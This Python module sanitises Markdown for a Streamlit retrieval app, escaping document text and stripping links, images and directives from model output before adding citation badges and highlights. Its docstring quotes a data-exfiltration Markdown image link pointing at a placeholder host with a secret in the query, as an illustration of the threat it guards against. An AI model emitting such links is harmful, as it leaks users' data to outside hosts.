"""Text for Streamlit's Markdown, made safe: document text and model output are shown as text.

Streamlit never renders HTML in ``st.markdown`` without ``unsafe_allow_html`` (which this app
never passes), but Markdown itself can still do harm: a model or a document can write
``![x](http://host/?q=secret)`` (an image the browser fetches) or Streamlit directives such as
``:red[...]``. Document text is escaped completely; model output keeps emphasis and lists but
loses links, images, HTML and directives. Only then are our own ``[n]`` badges and highlights
added. No Streamlit import here: these are pure functions, tested directly.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from rag.types import AnswerSentence, Evidence

_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:])")
_MODEL_SPECIAL = re.compile(r"([\\\[\]<>$!:|])")
# Where GFM's autolink literals start: before "://" of http(s), the dot after "www", an "@".
_AUTOLINK = re.compile(r"(?i)(?<=http)(?=://)|(?<=https)(?=://)|(?<=www)(?=\.)|(?=@)")
WORD_JOINER = "\u2060"
_CITATION = re.compile(r"\\\[(\d{1,3})\\\]")

BADGE_COLOUR = "blue"


def unlink(text: str) -> str:
    """Text in which Streamlit's Markdown finds no bare URL or e-mail address to turn into a link.

    GitHub-flavoured Markdown links ``http://…``, ``www.…`` and ``name@host.tld`` found in the
    *parsed* text, so escaping does not stop it; an invisible word joiner (U+2060) does.
    """
    return _AUTOLINK.sub(WORD_JOINER, text)


def escape_markdown(text: str) -> str:
    """Document text shown as literal text: no Markdown, link, directive or HTML is rendered."""
    return _MD_SPECIAL.sub(r"\\\1", unlink(text))


def message_markdown(text: str) -> str:
    """One of our own messages (errors, hints): `code` spans stay, everything else is literal.

    Messages can quote file names and hosts, which come from outside.
    """
    parts = re.split(r"(`[^`\n]+`)", text)
    return "".join(p if p.startswith("`") and p.endswith("`") and len(p) > 1
                   else escape_markdown(p) for p in parts)


def source_anchor(key: str, n: int) -> str:
    """The id of source ``n``'s card under the answer ``key`` (letters, digits, dashes)."""
    return "source-" + re.sub(r"[^A-Za-z0-9-]", "-", f"{key}-{n}")


def citation_badge(n: int, anchor: str | None = None) -> str:
    """Source ``n``'s badge; with ``anchor`` (``source_anchor``) a link that scrolls to its card."""
    badge = f":{BADGE_COLOUR}-badge[{n}]"
    return f"[{badge}](#{anchor})" if anchor else badge


# A heading the model writes ("## Summary") is shown as bold text, not as a page-sized heading.
_HEADING_LINE = re.compile(r"(?m)^[ \t]{0,3}#{1,6}[ \t]+(.+?)[ \t#]*$")
# While the answer streams, a citation may have arrived half: "[" or "[1" at the very end.
_PARTIAL_CITATION = re.compile(r"\[\d{0,3}$")


def answer_markdown(text: str, numbers: Iterable[int], anchor_key: str | None = None) -> str:
    """Model output as Markdown: ``[n]`` of a given source becomes the badge that source wears
    (with ``anchor_key``, a link to its card: ``source_anchor``).

    Links, images, HTML and directives are neutralised; a heading becomes bold text; a marker
    of a source that does not exist stays literal text.
    """
    valid = set(numbers)
    safe = _MODEL_SPECIAL.sub(r"\\\1", unlink(text))
    safe = _HEADING_LINE.sub(lambda m: f"**{m.group(1)}**" if m.group(1).strip("*") else "", safe)

    def badge(m: re.Match[str]) -> str:
        n = int(m.group(1))
        if n not in valid:
            return m.group(0)
        return citation_badge(n, source_anchor(anchor_key, n) if anchor_key else None)

    return _CITATION.sub(badge, safe)


def streaming_markdown(text: str, numbers: Iterable[int]) -> str:
    """The answer so far (``answer_markdown``), without a citation that has only half arrived:
    a lone "[" would show until its number and "]" come."""
    return answer_markdown(_PARTIAL_CITATION.sub("", text), numbers)


def short(text: str, limit: int = 160) -> str:
    flat = " ".join(text.split())
    return flat if len(flat) <= limit else flat[: limit - 1].rstrip() + "…"


# --- evidence and checked answers ----------------------------------------------------------------

HIGHLIGHT = "orange-background"
UNSUPPORTED_MARK = "⚠"
UNSUPPORTED_NOTE = "not supported by the passage it cites"
_WHITESPACE = re.compile(r"\s+")
_RAW_CITATION = re.compile(r"\s*\[(\d{1,3})\]")
_LEAD_MARKUP = re.compile(r"^(?:#{1,6}\s+|[-*+•]\s+|\d{1,3}[.)]\s+|>\s*)")


def evidence_spans(text: str, evidence: Iterable[Evidence]) -> list[tuple[int, int]]:
    """The evidence's ``(start, end)`` in ``text``, sorted and merged; offsets that do not point
    at the evidence's text (a stored answer from another version of the passage) are looked up
    by the text instead, and dropped when it is not there."""
    spans = []
    for e in evidence:
        start, end = max(0, int(e.start)), min(len(text), int(e.end))
        if start >= end or _flat(text[start:end]) != _flat(e.text):
            start = text.find(e.text) if e.text.strip() else -1
            if start < 0:
                continue
            end = start + len(e.text)
        spans.append((start, end))
    merged: list[tuple[int, int]] = []
    for start, end in sorted(spans):
        if merged and start <= merged[-1][1]:
            merged[-1] = (merged[-1][0], max(end, merged[-1][1]))
        else:
            merged.append((start, end))
    return merged


def _flat(text: str) -> str:
    return _WHITESPACE.sub(" ", text).strip()


def _cut(text: str, lo: int, hi: int) -> tuple[int, int]:
    """``lo``/``hi`` moved out to the nearest whitespace (no word cut in half)."""
    while 0 < lo < len(text) and not text[lo - 1].isspace():
        lo -= 1
    while hi < len(text) and not text[hi].isspace():
        hi += 1
    return lo, hi


def evidence_snippet(text: str, evidence: Iterable[Evidence], *, limit: int = 700) -> str:
    """The passage as plain text in escaped Markdown (its own Markdown markup removed), its
    evidence sentences highlighted (by their offsets).

    A long passage is cut to about ``limit`` characters: a window around each evidence
    sentence (windows that meet are joined; the rest elided with "…"); line breaks become
    spaces. Without evidence the passage's beginning is shown, nothing highlighted (a guess
    would look like evidence).
    """
    spans = evidence_spans(text, evidence)
    windows: list[tuple[int, int]] = []
    if spans:
        share = limit // len(spans)
        for start, end in spans:
            end = min(end, start + max(share, limit // 2))  # a very long sentence is cut
            room = max(0, share - (end - start))
            lo, hi = _cut(text, max(0, start - room // 3), min(len(text), end + room - room // 3))
            if windows and lo <= windows[-1][1]:
                windows[-1] = (windows[-1][0], max(hi, windows[-1][1]))
            else:
                windows.append((lo, hi))
    else:
        windows = [_cut(text, 0, min(len(text), limit))]
    pieces = []
    for lo, hi in windows:
        body = _highlighted(text, lo, hi, spans)
        if body:
            pieces.append(body)
    if not pieces:
        return ""
    prefix = "… " if text[: windows[0][0]].strip() else ""
    suffix = " …" if text[windows[-1][1]:].strip() else ""
    return prefix + " … ".join(pieces) + suffix


# The Markdown a document's text carries: heading and quote marks at a line's start, bold,
# code ticks, links and images (their text is kept).
_SNIPPET_MARKUP = re.compile(
    r"(?m)^[ \t]*(?:#{1,6}[ \t]+|>[ \t]?)|\*\*|__|`|!?\[([^\]\n]*)\]\([^)\n]*\)")


def plain_text(text: str) -> str:
    """Document text without its Markdown markup ("## Setup" -> "Setup", "**word**" -> "word"),
    line breaks kept."""
    return _SNIPPET_MARKUP.sub(lambda m: m.group(1) or "", text)


def is_heading_only(text: str) -> bool:
    """Whether a passage is nothing but a heading ("## Supported formats"): a chunk the
    chunker cut off from its section's text."""
    lines = [ln.strip() for ln in text.splitlines() if ln.strip()]
    return bool(lines) and all(ln.startswith("#") for ln in lines)


def _flat_plain(text: str) -> str:
    return _WHITESPACE.sub(" ", plain_text(text))


def _highlighted(text: str, lo: int, hi: int, spans: Iterable[tuple[int, int]]) -> str:
    """``text[lo:hi]`` as plain text (``plain_text``) escaped, with the parts inside ``spans``
    highlighted."""
    parts, cursor = [], lo
    for start, end in spans:
        start, end = max(start, cursor), min(end, hi)
        if start >= end:
            continue
        parts.append(escape_markdown(_flat_plain(text[cursor:start])))
        piece = _flat_plain(text[start:end])
        core = piece.strip()
        lead, trail = piece[: len(piece) - len(piece.lstrip())], piece[len(piece.rstrip()):]
        parts.append(f"{lead}:{HIGHLIGHT}[{escape_markdown(core)}]{trail}" if core else piece)
        cursor = end
    parts.append(escape_markdown(_flat_plain(text[cursor:hi])))
    return "".join(parts).strip()


def _model_text(text: str) -> str:
    return _MODEL_SPECIAL.sub(r"\\\1", unlink(text))


def unsupported_markdown(sentence: AnswerSentence) -> str:
    """A sentence no cited passage supports: marked, its citations not shown as badges but
    named in a note."""
    text = _WHITESPACE.sub(" ", sentence.text).strip()
    lead = _LEAD_MARKUP.match(text)
    prefix = lead.group(0) if lead and not lead.group(0).startswith("#") else ""
    core = _RAW_CITATION.sub("", text[len(lead.group(0)) if lead else 0:]).strip()
    cited = " ".join(f"\\[{n}\\]" for n in sentence.cited)
    note = f"{UNSUPPORTED_NOTE} {cited}" if cited else "not supported by the passages"
    return (f"{_model_text(prefix)}:{HIGHLIGHT}[{UNSUPPORTED_MARK} {_model_text(core)}]"
            f" :gray[({note})]")


def checked_answer_markdown(text: str, numbers: Iterable[int], sentences: Iterable[AnswerSentence],
                            anchor_key: str | None = None) -> tuple[str, list[AnswerSentence]]:
    """A generated answer as Markdown (see ``answer_markdown``) with its unsupported sentences
    marked (``unsupported_markdown``), and the unsupported sentences that could not be found
    in ``text`` (to be listed apart)."""
    numbers = list(numbers)
    found: list[tuple[int, int, AnswerSentence]] = []
    missing: list[AnswerSentence] = []
    cursor = 0
    for s in sentences:
        if s.supported or not s.text.strip():
            continue
        at = text.find(s.text, cursor)
        if at < 0:
            at = text.find(s.text)
        if at < 0 or any(a < at + len(s.text) and at < b for a, b, _ in found):
            missing.append(s)
            continue
        found.append((at, at + len(s.text), s))
        cursor = at + len(s.text)
    parts, cursor = [], 0
    for start, end, s in sorted(found, key=lambda f: f[0]):
        parts.append(answer_markdown(text[cursor:start], numbers, anchor_key))
        parts.append(unsupported_markdown(s))
        cursor = end
    parts.append(answer_markdown(text[cursor:], numbers, anchor_key))
    return "".join(parts), missing
